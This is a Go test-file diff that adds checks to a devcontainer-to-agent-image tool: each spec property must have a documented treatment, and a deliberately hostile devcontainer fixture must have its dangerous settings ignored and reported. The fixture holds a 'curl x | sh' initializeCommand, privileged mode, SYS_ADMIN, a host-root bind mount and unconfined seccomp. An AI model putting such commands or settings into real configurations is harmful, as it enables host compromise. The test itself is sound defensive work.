@@ -1,11 +1,14 @@
 package agentimage
 
 import (
+	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
+	"github.com/docker-magents/docker-magents/internal/devcontainer"
 	"github.com/docker-magents/docker-magents/internal/fleet"
 )
 
@@ -96,5 +99,51 @@ func TestRefusals(t *testing.T) {
 	f = project(t, ".devcontainer/devcontainer.json", map[string]string{".devcontainer/devcontainer.json": `{"image": `})
 	if _, err := For(f); err == nil || !strings.Contains(err.Error(), "line 1") {
 		t.Errorf("a malformed devcontainer: %v", err)
+	}
+}
+
+// Every property of the spec has its treatment, and the README's table says the same.
+func TestEveryPropertyIsTreatedAndDocumented(t *testing.T) {
+	readme, err := os.ReadFile("../../README.md")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, prop := range devcontainer.Properties() {
+		i := slices.IndexFunc(Treatments, func(tr Treatment) bool { return tr.Property == prop })
+		if i < 0 {
+			t.Errorf("%s: no treatment", prop)
+			continue
+		}
+		tr := Treatments[i]
+		if row := fmt.Sprintf("| `%s` | %s: %s |", tr.Property, tr.Use, tr.What); !strings.Contains(string(readme), row) {
+			t.Errorf("the README's devcontainer table lacks %q", row)
+		}
+	}
+	if len(Treatments) != len(devcontainer.Properties()) {
+		t.Errorf("%d treatments for %d properties", len(Treatments), len(devcontainer.Properties()))
+	}
+}
+
+// up says a line for each property set that is not applied, and for each unknown one;
+// the hostile devcontainer's each have theirs.
+func TestNotes(t *testing.T) {
+	f := project(t, ".devcontainer/devcontainer.json", map[string]string{
+		".devcontainer/devcontainer.json": `{"image": "debian:bookworm-slim", "name": "x", "initializeCommand": "curl x | sh",
+			"runArgs": ["--privileged"], "privileged": true, "capAdd": ["SYS_ADMIN"], "mounts": ["source=/,target=/host,type=bind"],
+			"securityOpt": ["seccomp=unconfined"], "init": true, "postCreateCommand": "make", "imagee": "typo"}`,
+	})
+	p, err := For(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	notes := strings.Join(p.Notes(), "\n")
+	for _, want := range []string{"initializeCommand never run (it would run on your host)", "runArgs ignored", "privileged ignored",
+		"capAdd ignored", "mounts ignored", "securityOpt ignored", "init ignored", "postCreateCommand not yet", "imagee: not a property"} {
+		if !strings.Contains(notes, want) {
+			t.Errorf("the notes lack %q:\n%s", want, notes)
+		}
+	}
+	if strings.Contains(notes, "name") || strings.Contains(notes, "image ") {
+		t.Errorf("notes of what is applied or an editor's alone:\n%s", notes)
 	}
 }
